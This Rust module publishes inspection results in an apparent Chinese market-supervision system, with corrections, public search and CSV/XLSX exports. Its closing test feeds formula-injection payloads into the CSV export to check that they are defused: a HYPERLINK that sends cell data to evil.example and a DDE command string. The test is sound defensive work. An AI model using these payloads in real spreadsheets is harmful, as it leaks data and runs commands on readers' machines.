//! Publication of approved results (一抽查一公示), corrections as new
//! versions, the public view and exports, and what publication feeds back:
//! the target's last inspection, 经营异常名录 candidates and follow-ups.
//!
//! The public view carries only what the national enterprise credit publicity
//! system shows (plan, task, type, implementing agency, completion date,
//! statutory result per item) and the target's name and 统一社会信用代码: no
//! inspector, finding text, photo or note ever enters `result_versions`.

use axum::extract::State;
use axum::http::StatusCode;
use axum::response::Response;
use axum::routing::{get, post};
use axum::{Json, Router};
use std::collections::BTreeMap;

use crate::store::sql::{Conn, OptionalExtension, Tx, params};
use chrono::NaiveDate;
use serde::{Deserialize, Serialize};
use serde_json::{Value, json};
use suiji_mobile_core::record::server_actor;
use suiji_mobile_core::vocab::{FollowUpMeasure, ResultCategory, ReviewState};

use super::{
    china_date_of, china_today, deadline_fields, doc_error, ensure_not_in_group,
    refresh_record_index, refresh_stale, was_in_group,
};
use crate::AppState;
use crate::actor::Actor;
use crate::audit;
use crate::auth::{AuthUser, Role};
use crate::calendar::Calendar;
use crate::db::now;
use crate::draw::records::append_changes;
use crate::error::{Error, Result};
use crate::extract::{ApiJson, ApiPath, ApiQuery, Page, Paging};
use crate::plans;
use crate::registry::rules;
use crate::spreadsheet::{Cell, Format, Table};

/// Routes of this module.
pub fn routes() -> Router<AppState> {
    Router::new()
        .route("/api/v1/records/{id}/publish", post(publish_one))
        .route("/api/v1/tasks/{id}/publish-results", post(publish_task))
        .route("/api/v1/results/{id}/corrections", post(correct))
        .route("/api/v1/public/results", get(public_results))
        .route("/api/v1/public/results/{id}", get(public_result))
        .route("/api/v1/public/tasks/{id}/results.json", get(task_json))
        .route("/api/v1/public/tasks/{id}/results.csv", get(task_csv))
        .route("/api/v1/public/tasks/{id}/results.xlsx", get(task_xlsx))
        .route("/api/v1/abnormal-candidates", get(abnormal_candidates))
        .route("/api/v1/targets/{id}/outcome", get(outcome_of_target))
}

/// Who reads outcomes (candidates, follow-ups, a target's last inspection).
const OUTCOME_READERS: &[Role] = &[Role::Supervisor, Role::Admin, Role::Planner];

/// A statutory result category as published.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct PublicCategory {
    /// Code (`no_problem`, …).
    pub code: String,
    /// Official wording (未发现问题, …).
    pub label: String,
}

/// One inspection item of a published result.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct PublicItem {
    /// 检查事项 code.
    pub code: String,
    /// 检查事项 name.
    pub name: String,
    /// Department that checks it (检查实施机关 of the item).
    pub department: String,
    /// Whether it was checked.
    pub checked: bool,
    /// 检查结果 in statutory wording (the record's results; 未检查 if not checked).
    pub result: String,
}

/// The public fields of one version of a result.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct PublicContent {
    /// 抽查计划编号.
    pub plan_number: String,
    /// 抽查计划名称.
    pub plan_name: String,
    /// 抽查任务编号.
    pub task_number: String,
    /// 抽查任务名称.
    pub task_name: String,
    /// 抽查类型: 定向 or 不定向.
    pub inspection_type: String,
    /// 检查实施机关 (participating departments joined by 、).
    pub agency: String,
    /// 检查对象名称.
    pub target_name: String,
    /// 统一社会信用代码.
    pub uscc: String,
    /// 检查完成日期.
    pub completed_on: NaiveDate,
    /// 检查结果, statutory wording joined by ；.
    pub result: String,
    /// The result categories.
    pub results: Vec<PublicCategory>,
    /// Per item.
    pub items: Vec<PublicItem>,
}

/// Label text of result codes, joined the way the publicity system shows them.
fn result_text(results: &[PublicCategory]) -> String {
    results
        .iter()
        .map(|c| c.label.as_str())
        .collect::<Vec<_>>()
        .join("；")
}

fn department_name(conn: &Conn, code: &str) -> Result<String> {
    conn.query_row(
        "SELECT name FROM departments WHERE code = ?1",
        [code],
        |r| r.get(0),
    )
}

/// The public content of an approved record, from its document.
fn public_content(
    conn: &Conn,
    id: &str,
    doc: &suiji_mobile_core::RecordDoc,
) -> Result<(PublicContent, i64, i64)> {
    let err = doc_error(id, "record");
    let (task_id, target_id, ended, uscc): (i64, i64, Option<String>, String) = conn.query_row(
        "SELECT r.task_id, r.target_id, r.inspection_ended_on, t.uscc
         FROM records r JOIN targets t ON t.id = r.target_id WHERE r.id = ?1",
        [id],
        |r| Ok((r.get(0)?, r.get(1)?, r.get(2)?, r.get(3)?)),
    )?;
    let task = plans::get_task_by_id(conn, task_id)?;
    let assignment = doc.assignment().map_err(&err)?;
    let mut agency = Vec::new();
    for code in &task.departments {
        agency.push(department_name(conn, code)?);
    }
    let results: Vec<PublicCategory> = doc
        .result_categories()
        .map_err(&err)?
        .into_iter()
        .map(|c| PublicCategory {
            code: c.code().into(),
            label: c.label().into(),
        })
        .collect();
    let text = result_text(&results);
    let mut items = Vec::new();
    for (item, answer) in doc.items().map_err(&err)? {
        let department = task
            .items
            .iter()
            .find(|i| i.code == item.code.as_str())
            .map(|i| i.department.clone())
            .unwrap_or_else(|| task.department.clone());
        let checked = answer.checked == Some(true);
        items.push(PublicItem {
            code: item.code.to_string(),
            name: item.name,
            department: department_name(conn, &department)?,
            checked,
            result: if checked {
                text.clone()
            } else {
                "未检查".into()
            },
        });
    }
    let completed_on = match ended {
        Some(d) => d
            .parse()
            .map_err(|e| Error::Internal(format!("stored date: {e}")))?,
        None => task.window_end,
    };
    Ok((
        PublicContent {
            plan_number: assignment.plan.number,
            plan_name: assignment.plan.name,
            task_number: task.number,
            task_name: task.name,
            inspection_type: if task.directed { "定向" } else { "不定向" }.into(),
            agency: agency.join("、"),
            target_name: assignment.target.name,
            uscc: assignment.target.uscc.unwrap_or(uscc),
            completed_on,
            result: text,
            results,
            items,
        },
        task_id,
        target_id,
    ))
}

/// Updates the target's last inspection and adds 经营异常名录 candidates for a
/// result (at publication and after a correction).
fn feed_back(
    tx: &Tx<'_>,
    result_id: i64,
    record_id: &str,
    target_id: i64,
    content: &PublicContent,
    verified_on: NaiveDate,
    corrected: bool,
) -> Result<()> {
    let codes: Vec<&str> = content.results.iter().map(|c| c.code.as_str()).collect();
    tx.execute(
        "UPDATE targets SET last_inspected_on = ?1, last_result = ?2, last_result_codes = ?3,
            last_record_id = ?4
         WHERE id = ?5 AND (last_inspected_on IS NULL OR last_inspected_on <= ?1
                            OR last_record_id = ?4)",
        params![
            content.completed_on.to_string(),
            content.result,
            json!(codes).to_string(),
            record_id,
            target_id
        ],
    )?;
    for category in [ResultCategory::Unreachable, ResultCategory::FalsePublicity] {
        if codes.contains(&category.code()) {
            tx.execute(
                "INSERT INTO abnormal_candidates
                    (target_id, record_id, result_id, category, verified_on, created_at)
                 VALUES (?1, ?2, ?3, ?4, ?5, ?6) ON CONFLICT DO NOTHING",
                params![
                    target_id,
                    record_id,
                    result_id,
                    category.code(),
                    verified_on.to_string(),
                    now()
                ],
            )?;
        }
    }
    super::risk::reclassify(tx, target_id, result_id, record_id, corrected)
}

/// What a published result (first or corrected version) does beside
/// [`feed_back`]: a 复查's result closes the follow-up it rechecks.
fn close_follow_up(
    tx: &Tx<'_>,
    actor: &str,
    record_id: &str,
    content: &PublicContent,
) -> Result<()> {
    let categories: Vec<ResultCategory> = content
        .results
        .iter()
        .filter_map(|c| ResultCategory::from_code(&c.code))
        .collect();
    super::follow_ups::close_by_recheck(tx, actor, record_id, &categories)
}

/// Publishes one approved record in `tx`: marks the document published,
/// stores version 1 of its public result and feeds the outcome back. Returns
/// the result id.
pub fn publish_record(tx: &Tx<'_>, user: &Actor, id: &str) -> Result<i64> {
    let mut doc = super::record_for_decision(tx, user, id)?;
    let state = doc.review().map_err(doc_error(id, "record"))?.state;
    // A result names its target, so it may not go public before the drawn
    // list does (docs/draw.md, "Who sees a drawn list").
    let task_number: Option<String> = tx.query_row(
        &format!(
            "SELECT CASE WHEN {} THEN NULL ELSE t.number END
             FROM records r JOIN tasks t ON t.id = r.task_id WHERE r.id = ?1",
            crate::visibility::LIST_PUBLISHED_SQL
        ),
        [id],
        |r| r.get(0),
    )?;
    if let Some(number) = task_number {
        return Err(Error::Conflict(format!(
            "the drawn list of task {number} is not published yet; publish it before its results"
        )));
    }
    if state != ReviewState::Approved {
        return Err(Error::Conflict(format!(
            "record {id} is {}; only approved records are published",
            state.code()
        )));
    }
    doc.save_incremental();
    doc.set_actor(server_actor());
    doc.publish(&user.username)
        .map_err(doc_error(id, "record"))?;
    append_changes(tx, id, &mut doc)?;
    refresh_record_index(tx, id, &doc)?;
    let (content, task_id, target_id) = public_content(tx, id, &doc)?;
    let (published_at, approved_at): (String, String) = tx.query_row(
        "SELECT published_at, approved_at FROM records WHERE id = ?1",
        [id],
        |r| Ok((r.get(0)?, r.get(1)?)),
    )?;
    let published_on = china_date_of(&published_at)?;
    let result_id: i64 = tx.query_row(
        "INSERT INTO published_results (record_id, task_id, target_id, target_name, uscc,
            current_version, first_published_at, first_published_on)
         VALUES (?1, ?2, ?3, ?4, ?5, 1, ?6, ?7) RETURNING id",
        params![
            id,
            task_id,
            target_id,
            content.target_name,
            content.uscc,
            published_at,
            published_on.to_string()
        ],
        |r| r.get(0),
    )?;
    let content_json = serde_json::to_string(&content)?;
    tx.execute(
        "INSERT INTO result_versions (result_id, version, content, published_at, published_by)
         VALUES (?1, 1, ?2, ?3, ?4)",
        params![result_id, content_json, published_at, user.username],
    )?;
    // 经营异常名录: the finding is verified when the supervisor approves it.
    feed_back(
        tx,
        result_id,
        id,
        target_id,
        &content,
        china_date_of(&approved_at)?,
        false,
    )?;
    close_follow_up(tx, &user.username, id, &content)?;
    let follow_up = doc.follow_up().map_err(doc_error(id, "record"))?;
    if let Some(measure) = follow_up.measure.filter(|m| *m != FollowUpMeasure::None) {
        tx.execute(
            "INSERT INTO follow_ups (record_id, target_id, measure, deadline, detail, created_at)
             VALUES (?1, ?2, ?3, ?4, ?5, ?6) ON CONFLICT DO NOTHING",
            params![
                id,
                target_id,
                measure.code(),
                follow_up.deadline.map(|d| d.to_string()),
                follow_up.detail,
                now()
            ],
        )?;
    }
    audit::append(
        tx,
        &user.username,
        "result.publish",
        &format!("record:{id}"),
        None,
        Some(&json!({"result_id": result_id, "version": 1, "content": content})),
    )?;
    Ok(result_id)
}

async fn publish_one(
    State(state): State<AppState>,
    user: AuthUser,
    ApiPath(id): ApiPath<String>,
) -> Result<(StatusCode, Json<Value>)> {
    user.require(&[Role::Supervisor])?;
    let result = state
        .db
        .write(move |tx| {
            let result_id = publish_record(tx, &user, &id)?;
            public_entry(tx, result_id)
        })
        .await?;
    Ok((StatusCode::CREATED, Json(result)))
}

async fn publish_task(
    State(state): State<AppState>,
    user: AuthUser,
    ApiPath(task_id): ApiPath<i64>,
) -> Result<Json<Value>> {
    user.require(&[Role::Supervisor])?;
    let outcome = state
        .db
        .write(move |tx| publish_task_results(tx, &user, task_id))
        .await?;
    Ok(Json(outcome))
}

/// Publishes every approved record of a task that `user` did not inspect:
/// `{task_id, published: [{record_id, result_id}], skipped: [{record_id, reason}], not_approved}`.
pub fn publish_task_results(tx: &Tx<'_>, user: &Actor, task_id: i64) -> Result<Value> {
    plans::get_task_by_id(tx, task_id)?;
    refresh_stale(tx)?;
    let ids: Vec<String> = {
        let mut stmt = tx.prepare(
            "SELECT id FROM records WHERE task_id = ?1 AND withdrawn_at IS NULL
                       AND review_state = 'approved' ORDER BY id",
        )?;
        stmt.query_map([task_id], |r| r.get(0))?
            .collect::<Result<_, _>>()?
    };
    let mut published = Vec::new();
    let mut skipped = Vec::new();
    for id in ids {
        if was_in_group(tx, user.user_id, &id)? {
            skipped.push(json!({"record_id": id, "reason": "you were in its inspector group"}));
            continue;
        }
        let result_id = publish_record(tx, user, &id)?;
        published.push(json!({"record_id": id, "result_id": result_id}));
    }
    let not_ready: i64 = tx.query_row(
        "SELECT COUNT(*) FROM records WHERE task_id = ?1 AND withdrawn_at IS NULL
                   AND review_state NOT IN ('approved', 'published')",
        [task_id],
        |r| r.get(0),
    )?;
    Ok(
        json!({"task_id": task_id, "published": published, "skipped": skipped,
                      "not_approved": not_ready}),
    )
}

/// A correction of a published result (`POST /api/v1/results/{id}/corrections`
/// and the record page's correction form): why, and what changes. Fields
/// left out stay as published.
#[derive(Debug, Clone, Default, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct Correction {
    /// Why the result is corrected (required; published with the new version).
    pub reason: String,
    /// Corrected result categories (codes).
    #[serde(default)]
    pub results: Option<Vec<String>>,
    /// Corrected completion date.
    #[serde(default)]
    pub completed_on: Option<NaiveDate>,
    /// Corrected checked flags per item code.
    #[serde(default)]
    pub items: Option<Vec<ItemCorrection>>,
}

/// The corrected checked flag of one inspection item of a result.
#[derive(Debug, Clone, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct ItemCorrection {
    /// 检查事项 code, one of the result's items.
    pub code: String,
    /// Whether it was checked.
    pub checked: bool,
}

fn load_content(conn: &Conn, result_id: i64, version: i64) -> Result<PublicContent> {
    let text: String = conn.query_row(
        "SELECT content FROM result_versions WHERE result_id = ?1 AND version = ?2",
        params![result_id, version],
        |r| r.get(0),
    )?;
    Ok(serde_json::from_str(&text)?)
}

/// The published result of a record, if it has one.
pub fn result_of_record(conn: &Conn, record_id: &str) -> Result<Option<i64>> {
    conn.query_row(
        "SELECT id FROM published_results WHERE record_id = ?1",
        [record_id],
        |r| r.get(0),
    )
    .optional()
}

/// Corrects published result `result_id` in `tx` as `user`: stores the
/// corrected content as a new version with the reason, marks the previous
/// version corrected (it stays public, marked 已更正), updates the target's
/// last result and candidates, and writes the audit log. Returns the public
/// entry. Refused (403) for a user who was ever in the record's inspector
/// group; invalid without a reason, with an unknown or contradictory result
/// category, an item not in the result, or a correction that changes nothing.
pub fn correct_result(
    tx: &Tx<'_>,
    user: &Actor,
    result_id: i64,
    body: Correction,
) -> Result<Value> {
    let found: Option<(String, i64, i64)> = tx
        .query_row(
            "SELECT record_id, target_id, current_version FROM published_results WHERE id = ?1",
            [result_id],
            |r| Ok((r.get(0)?, r.get(1)?, r.get(2)?)),
        )
        .optional()?;
    let (record_id, target_id, version) =
        found.ok_or_else(|| Error::NotFound(format!("result {result_id}")))?;
    ensure_not_in_group(tx, user, &record_id)?;
    if body.reason.trim().is_empty() {
        return Err(Error::invalid("reason", "say why the result is corrected"));
    }
    let old = load_content(tx, result_id, version)?;
    let mut new = old.clone();
    if let Some(codes) = &body.results {
        let mut categories = Vec::new();
        for (n, code) in codes.iter().enumerate() {
            let c = ResultCategory::from_code(code).ok_or_else(|| {
                Error::invalid(
                    format!("results[{n}]"),
                    format!("unknown result category {code:?}"),
                )
            })?;
            if !categories.contains(&c) {
                categories.push(c);
            }
        }
        if categories.is_empty() {
            return Err(Error::invalid("results", "at least one result category"));
        }
        if categories.contains(&ResultCategory::NoProblem) && categories.len() > 1 {
            return Err(Error::invalid(
                "results",
                "未发现问题 cannot stand with other results",
            ));
        }
        categories.sort();
        new.results = categories
            .iter()
            .map(|c| PublicCategory {
                code: c.code().into(),
                label: c.label().into(),
            })
            .collect();
        new.result = result_text(&new.results);
    }
    if let Some(date) = body.completed_on {
        new.completed_on = date;
    }
    if let Some(items) = &body.items {
        for (n, fix) in items.iter().enumerate() {
            let item = new
                .items
                .iter_mut()
                .find(|i| i.code == fix.code)
                .ok_or_else(|| {
                    Error::invalid(
                        format!("items[{n}].code"),
                        format!("item {} is not in this result", fix.code),
                    )
                })?;
            item.checked = fix.checked;
        }
    }
    for item in &mut new.items {
        item.result = if item.checked {
            new.result.clone()
        } else {
            "未检查".into()
        };
    }
    if new == old {
        return Err(Error::invalid(
            "results",
            "the correction changes nothing in the published result",
        ));
    }
    let at = now();
    tx.execute(
        "UPDATE result_versions SET corrected_at = ?1 WHERE result_id = ?2 AND version = ?3",
        params![at, result_id, version],
    )?;
    tx.execute(
        "INSERT INTO result_versions (result_id, version, content, published_at, published_by, reason)
         VALUES (?1, ?2, ?3, ?4, ?5, ?6)",
        params![
            result_id,
            version + 1,
            serde_json::to_string(&new)?,
            at,
            user.username,
            body.reason.trim()
        ],
    )?;
    tx.execute(
        "UPDATE published_results SET current_version = ?1 WHERE id = ?2",
        params![version + 1, result_id],
    )?;
    feed_back(
        tx,
        result_id,
        &record_id,
        target_id,
        &new,
        china_date_of(&at)?,
        true,
    )?;
    close_follow_up(tx, &user.username, &record_id, &new)?;
    audit::append(
        tx,
        &user.username,
        "result.correct",
        &format!("result:{result_id}"),
        Some(&json!({"version": version, "content": old})),
        Some(&json!({"version": version + 1, "content": new, "reason": body.reason.trim()})),
    )?;
    public_entry(tx, result_id)
}

async fn correct(
    State(state): State<AppState>,
    user: AuthUser,
    ApiPath(result_id): ApiPath<i64>,
    ApiJson(body): ApiJson<Correction>,
) -> Result<(StatusCode, Json<Value>)> {
    user.require(&[Role::Supervisor])?;
    let entry = state
        .db
        .write(move |tx| correct_result(tx, &user, result_id, body))
        .await?;
    Ok((StatusCode::CREATED, Json(entry)))
}

/// A published result as the public sees it: the current version's fields,
/// whether it was corrected, and every earlier version marked 已更正.
pub fn public_entry(conn: &Conn, result_id: i64) -> Result<Value> {
    let found: Option<(i64, String)> = conn
        .query_row(
            "SELECT current_version, first_published_at FROM published_results WHERE id = ?1",
            [result_id],
            |r| Ok((r.get(0)?, r.get(1)?)),
        )
        .optional()?;
    let (current, first_published_at) =
        found.ok_or_else(|| Error::NotFound(format!("result {result_id}")))?;
    let mut stmt = conn.prepare_cached(
        "SELECT version, content, published_at, reason, corrected_at FROM result_versions
         WHERE result_id = ?1 ORDER BY version DESC",
    )?;
    let versions = stmt
        .query_map([result_id], |r| {
            Ok((
                r.get::<_, i64>(0)?,
                r.get::<_, String>(1)?,
                r.get::<_, String>(2)?,
                r.get::<_, Option<String>>(3)?,
                r.get::<_, Option<String>>(4)?,
            ))
        })?
        .collect::<Result<Vec<_>, _>>()?;
    let mut entry = Value::Null;
    let mut previous = Vec::new();
    for (version, content, published_at, reason, corrected_at) in versions {
        let mut v: Value = serde_json::from_str(&content)?;
        v["version"] = json!(version);
        v["published_at"] = json!(published_at);
        v["correction_reason"] = json!(reason);
        if version == current {
            entry = v;
        } else {
            v["status"] = json!("已更正");
            v["corrected_at"] = json!(corrected_at);
            previous.push(v);
        }
    }
    entry["id"] = json!(result_id);
    entry["first_published_at"] = json!(first_published_at);
    entry["corrected"] = json!(current > 1);
    entry["status"] = json!(if current > 1 {
        "已更正"
    } else {
        "已公示"
    });
    entry["previous_versions"] = json!(previous);
    Ok(entry)
}

#[derive(Debug, Deserialize)]
#[serde(deny_unknown_fields)]
struct PublicQuery {
    q: Option<String>,
    page: Option<u32>,
    per_page: Option<u32>,
}

async fn public_results(
    State(state): State<AppState>,
    ApiQuery(query): ApiQuery<PublicQuery>,
) -> Result<Json<Page<Value>>> {
    let paging = Paging {
        page: query.page.unwrap_or(1),
        per_page: query.per_page.unwrap_or(50),
    }
    .validate()?;
    let q = query.q;
    Ok(Json(
        state
            .db
            .read(move |c| search_public(c, q.as_deref(), paging))
            .await?,
    ))
}

/// Published results whose target name, 统一社会信用代码 or task number
/// contains `q` (all of them without one), the latest first.
pub fn search_public(c: &Conn, q: Option<&str>, paging: Paging) -> Result<Page<Value>> {
    let q = q.map(str::trim).filter(|q| !q.is_empty());
    let like = q.as_ref().map(|q| {
        format!(
            "%{}%",
            q.replace('\\', "\\\\")
                .replace('%', "\\%")
                .replace('_', "\\_")
        )
    });
    let filter = "(CAST(?1 AS TEXT) IS NULL OR pr.target_name LIKE ?1 ESCAPE '\\' OR pr.uscc LIKE ?1 ESCAPE '\\'
                           OR t.number LIKE ?1 ESCAPE '\\')";
    let total: i64 = c.query_row(
                &format!(
                    "SELECT COUNT(*) FROM published_results pr JOIN tasks t ON t.id = pr.task_id WHERE {filter}"
                ),
                params![like],
                |r| r.get(0),
            )?;
    let ids: Vec<i64> = {
        let mut stmt = c.prepare(&format!(
                    "SELECT pr.id FROM published_results pr JOIN tasks t ON t.id = pr.task_id
                     WHERE {filter} ORDER BY pr.first_published_at DESC, pr.id DESC LIMIT ?2 OFFSET ?3"
                ))?;
        stmt.query_map(params![like, paging.limit(), paging.offset()], |r| r.get(0))?
            .collect::<Result<_, _>>()?
    };
    let items = ids
        .into_iter()
        .map(|id| public_entry(c, id))
        .collect::<Result<_>>()?;
    Ok(Page {
        items,
        total,
        page: paging.page,
        per_page: paging.per_page,
    })
}

async fn public_result(
    State(state): State<AppState>,
    ApiPath(id): ApiPath<i64>,
) -> Result<Json<Value>> {
    Ok(Json(state.db.read(move |c| public_entry(c, id)).await?))
}

/// Every published result of a task, current versions with their history.
pub fn task_results(conn: &Conn, task_id: i64) -> Result<Vec<Value>> {
    plans::get_task_by_id(conn, task_id)?;
    let ids: Vec<i64> = {
        let mut stmt = conn.prepare(
            "SELECT pr.id FROM published_results pr JOIN records r ON r.id = pr.record_id
             WHERE pr.task_id = ?1 ORDER BY pr.uscc, pr.id",
        )?;
        stmt.query_map([task_id], |r| r.get(0))?
            .collect::<Result<_, _>>()?
    };
    ids.into_iter().map(|id| public_entry(conn, id)).collect()
}

async fn task_json(
    State(state): State<AppState>,
    ApiPath(task_id): ApiPath<i64>,
) -> Result<Json<Value>> {
    let results = state.db.read(move |c| task_results(c, task_id)).await?;
    Ok(Json(json!({"task_id": task_id, "results": results})))
}

/// CSV header of a task's published results.
pub const CSV_HEADER: &[&str] = &[
    "抽查计划编号",
    "抽查计划名称",
    "抽查任务编号",
    "抽查任务名称",
    "抽查类型",
    "检查实施机关",
    "检查对象名称",
    "统一社会信用代码",
    "检查完成日期",
    "检查结果",
    "检查事项及结果",
    "版本",
    "更正说明",
];

/// A task's published results as a spreadsheet table, one row per result version, in the
/// columns of [`CSV_HEADER`].
pub fn results_table(results: &[Value]) -> Table {
    let s = |v: &Value| match v {
        Value::String(s) => s.clone(),
        Value::Null => String::new(),
        other => other.to_string(),
    };
    let rows = results
        .iter()
        .map(|r| {
            let items = r["items"]
                .as_array()
                .into_iter()
                .flatten()
                .map(|i| format!("{}：{}", s(&i["name"]), s(&i["result"])))
                .collect::<Vec<_>>()
                .join("\n");
            let version = r["version"].as_i64().unwrap_or(1);
            let note = if version > 1 {
                format!("第{version}版（已更正）：{}", s(&r["correction_reason"]))
            } else {
                String::new()
            };
            let mut row: Vec<Cell> = [
                "plan_number",
                "plan_name",
                "task_number",
                "task_name",
                "inspection_type",
                "agency",
                "target_name",
                "uscc",
                "completed_on",
                "result",
            ]
            .iter()
            .map(|key| Cell::Text(s(&r[*key])))
            .collect();
            row.extend([Cell::Text(items), version.into(), Cell::Text(note)]);
            row
        })
        .collect();
    Table {
        sheet: "抽查结果".into(),
        header: CSV_HEADER.iter().map(|h| (*h).to_owned()).collect(),
        rows,
    }
}

/// `GET /api/v1/public/tasks/{id}/results.csv` and `….xlsx`: the task's published results.
async fn task_results_file(state: AppState, task_id: i64, format: Format) -> Result<Response> {
    let results = state.db.read(move |c| task_results(c, task_id)).await?;
    results_table(&results).download(format, &format!("task-{task_id}-results"))
}

async fn task_csv(
    State(state): State<AppState>,
    ApiPath(task_id): ApiPath<i64>,
) -> Result<Response> {
    task_results_file(state, task_id, Format::Csv).await
}

async fn task_xlsx(
    State(state): State<AppState>,
    ApiPath(task_id): ApiPath<i64>,
) -> Result<Response> {
    task_results_file(state, task_id, Format::Xlsx).await
}

#[derive(Debug, Deserialize)]
#[serde(deny_unknown_fields)]
struct OutcomeQuery {
    status: Option<String>,
    as_of: Option<NaiveDate>,
}

/// 经营异常名录 candidates with their deadlines.
pub fn list_abnormal_candidates(
    conn: &Conn,
    status: Option<&str>,
    calendar: &Calendar,
    today: NaiveDate,
) -> Result<Vec<Value>> {
    let days = rules::load(conn)?.abnormal_list_days;
    let mut stmt = conn.prepare(
        "SELECT a.id, a.target_id, t.name, t.uscc, a.record_id, a.result_id, a.category,
                a.verified_on, a.status, a.created_at
         FROM abnormal_candidates a JOIN targets t ON t.id = a.target_id
         WHERE CAST(?1 AS TEXT) IS NULL OR a.status = ?1 ORDER BY a.verified_on, a.id",
    )?;
    let rows = stmt.query_map([status], |r| {
        Ok((
            json!({
                "id": r.get::<_, i64>(0)?, "target_id": r.get::<_, i64>(1)?,
                "target_name": r.get::<_, String>(2)?, "uscc": r.get::<_, String>(3)?,
                "record_id": r.get::<_, String>(4)?, "result_id": r.get::<_, i64>(5)?,
                "category": r.get::<_, String>(6)?, "verified_on": r.get::<_, String>(7)?,
                "status": r.get::<_, String>(8)?, "created_at": r.get::<_, String>(9)?,
            }),
            r.get::<_, String>(7)?,
        ))
    })?;
    let mut out = Vec::new();
    for row in rows {
        let (mut v, verified) = row?;
        if let Some(c) = ResultCategory::from_code(v["category"].as_str().unwrap_or_default()) {
            v["category_label"] = json!(c.label());
        }
        let from: NaiveDate = verified
            .parse()
            .map_err(|e| Error::Internal(format!("stored date: {e}")))?;
        for (k, f) in deadline_fields(calendar, from, days, today)
            .as_object()
            .into_iter()
            .flatten()
        {
            v[k] = f.clone();
        }
        out.push(v);
    }
    Ok(out)
}

async fn abnormal_candidates(
    State(state): State<AppState>,
    user: AuthUser,
    ApiQuery(q): ApiQuery<OutcomeQuery>,
) -> Result<Json<Vec<Value>>> {
    user.require(OUTCOME_READERS)?;
    let calendar = state.calendar();
    let today = q.as_of.unwrap_or_else(china_today);
    Ok(Json(
        state
            .db
            .read(move |c| list_abnormal_candidates(c, q.status.as_deref(), &calendar, today))
            .await?,
    ))
}

/// What publication has recorded about a target: last inspection and result,
/// records per year (the frequency cap counts these; only the records `user`
/// may see, so that a count cannot tell a target was drawn in a list still
/// confidential), published results, candidates and follow-ups.
pub fn target_outcome(conn: &Conn, user: &Actor, target_id: i64) -> Result<Value> {
    let found: Option<Value> = conn
        .query_row(
            "SELECT id, name, uscc, last_inspected_on, last_result, last_result_codes, last_record_id
             FROM targets WHERE id = ?1",
            [target_id],
            |r| {
                let codes: Option<String> = r.get(5)?;
                Ok(json!({
                    "target_id": r.get::<_, i64>(0)?, "name": r.get::<_, String>(1)?,
                    "uscc": r.get::<_, String>(2)?,
                    "last_inspected_on": r.get::<_, Option<String>>(3)?,
                    "last_result": r.get::<_, Option<String>>(4)?,
                    "last_result_codes": codes.and_then(|c| serde_json::from_str::<Value>(&c).ok()),
                    "last_record_id": r.get::<_, Option<String>>(6)?,
                }))
            },
        )
        .optional()?;
    let mut v = found.ok_or_else(|| Error::NotFound(format!("target {target_id}")))?;
    let sights = crate::visibility::sights(conn, user, None)?;
    let mut stmt = conn.prepare(
        "SELECT p.year, r.id FROM records r JOIN tasks t ON t.id = r.task_id
         JOIN plans p ON p.id = t.plan_id
         WHERE r.target_id = ?1 AND r.withdrawn_at IS NULL ORDER BY p.year",
    )?;
    let mut per_year: BTreeMap<i64, i64> = BTreeMap::new();
    for row in stmt.query_map([target_id], |r| {
        Ok((r.get::<_, i64>(0)?, r.get::<_, String>(1)?))
    })? {
        let (year, record) = row?;
        if sights.contains_key(&record) {
            *per_year.entry(year).or_default() += 1;
        }
    }
    v["records_per_year"] = json!(
        per_year
            .into_iter()
            .map(|(year, n)| json!({"year": year, "records": n}))
            .collect::<Vec<_>>()
    );
    let mut stmt =
        conn.prepare("SELECT id FROM published_results WHERE target_id = ?1 ORDER BY id")?;
    let ids: Vec<i64> = stmt
        .query_map([target_id], |r| r.get(0))?
        .collect::<Result<_, _>>()?;
    v["published_results"] = json!(
        ids.into_iter()
            .map(|id| public_entry(conn, id))
            .collect::<Result<Vec<_>>>()?
    );
    let mut stmt = conn.prepare(
        "SELECT id, category, verified_on, status FROM abnormal_candidates WHERE target_id = ?1 ORDER BY id",
    )?;
    v["abnormal_candidates"] = json!(
        stmt.query_map([target_id], |r| Ok(json!({"id": r.get::<_, i64>(0)?,
            "category": r.get::<_, String>(1)?, "verified_on": r.get::<_, String>(2)?,
            "status": r.get::<_, String>(3)?})))?
            .collect::<Result<Vec<_>, _>>()?
    );
    v["abnormal_listing"] = json!(super::candidates::target_listing(conn, target_id)?);
    v["abnormal_decisions"] = json!(super::candidates::decisions_of_target(conn, target_id)?);
    let filter = super::follow_ups::Filter {
        target_id: Some(target_id),
        ..Default::default()
    };
    v["follow_ups"] = json!(super::follow_ups::list(conn, &filter, china_today())?);
    Ok(v)
}

async fn outcome_of_target(
    State(state): State<AppState>,
    user: AuthUser,
    ApiPath(target_id): ApiPath<i64>,
) -> Result<Json<Value>> {
    user.require(OUTCOME_READERS)?;
    Ok(Json(
        state
            .db
            .read(move |c| target_outcome(c, &user, target_id))
            .await?,
    ))
}

#[cfg(test)]
mod tests {
    use serde_json::json;

    #[test]
    fn the_results_csv_defuses_names_that_would_run_as_formulas() {
        let hostile = "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"点击\")";
        let result = json!({
            "plan_number": "+cmd|' /C calc'!A0", "plan_name": "2026年度计划",
            "task_number": "-1+1", "task_name": "@SUM(1+1)", "inspection_type": "定向",
            "agency": "某区市场监督管理局", "target_name": hostile,
            "uscc": "91330100MA2B000001", "completed_on": "2026-11-20",
            "result": "未发现问题", "version": 1,
            "items": [{"name": "=1+1", "result": "未发现问题"}],
        });
        let bytes = super::results_table(&[result]).to_csv().unwrap();
        let text = String::from_utf8(bytes).unwrap();
        let mut reader = csv::Reader::from_reader(text.trim_start_matches('\u{feff}').as_bytes());
        let row = reader.records().next().unwrap().unwrap();
        assert_eq!(&row[0], "'+cmd|' /C calc'!A0");
        assert_eq!(&row[2], "'-1+1");
        assert_eq!(&row[3], "'@SUM(1+1)");
        assert_eq!(&row[6], format!("'{hostile}"));
        assert_eq!(&row[7], "91330100MA2B000001");
        assert_eq!(&row[10], "'=1+1：未发现问题");
        for cell in row.iter() {
            assert!(
                !cell.starts_with(['=', '+', '-', '@']),
                "a cell starts a formula: {cell:?}"
            );
        }
    }
}
